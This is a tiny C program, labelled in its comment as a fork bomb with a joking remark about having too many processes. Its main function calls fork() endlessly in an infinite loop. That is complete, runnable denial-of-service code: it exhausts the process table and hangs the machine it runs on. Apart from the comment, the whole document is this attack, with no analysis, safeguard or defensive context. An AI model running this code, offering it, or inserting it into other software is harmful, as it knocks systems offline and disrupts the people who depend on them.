// A fork bomb: what must be said of it is that it has too many processes.
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
